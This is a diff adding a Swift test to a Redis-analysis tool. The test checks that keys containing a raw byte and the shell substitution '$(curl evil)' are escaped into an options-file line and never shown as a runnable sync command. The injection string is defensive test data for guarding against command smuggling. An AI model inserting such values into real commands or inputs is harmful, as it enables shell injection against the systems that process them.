@@ -38,6 +38,27 @@ struct AnalyzeTests {
     #expect(text.exitCode == 0 && text.standardOutput.contains("migr8sync sync -s"))
   }
 
+  /// A stranger's keys may be called what a shell would carry out. Where a command line cannot name them, the
+  /// line that is shown in its place does, in a file of options.
+  @Test func noCommandIsShownForWhatIsNoText() throws {
+    let server = try TestServer()
+    let client = try server.client()
+    let prefix = [0xFF] + Array("$(curl evil):".utf8)
+    for index in 0..<20 { try client("SET", prefix + Array("\(index)".utf8), "a") }
+    for index in 0..<10 { try client("SET", "plain:\(index)", "a") }
+    let file = try server.save()
+    let report = try json([file])
+    let line = try #require(report["config"] as? String)
+    #expect(line == #"prefix "\xff\x24\x28curl\x20evil\x29:""# && report["sync"] == nil)
+    let text = try Tool.run(["analyze", file])
+    #expect(text.exitCode == 0 && text.standardOutput.hasSuffix("into it: \(line)\n"), "\(text)")
+    #expect(!text.standardOutput.contains("migr8sync sync"), "\(text)")
+    let folder = try ScratchFolder()
+    let options = folder.file("options")
+    try line.write(toFile: options, atomically: true, encoding: .utf8)
+    #expect(try json([file, "--config", options])["keys"] as? Int == 20)
+  }
+
   /// The model of memory, held against MEMORY USAGE over all sample keys.
   @Test func theEstimateIsNear() throws {
     let server = try TestServer(.redis70)
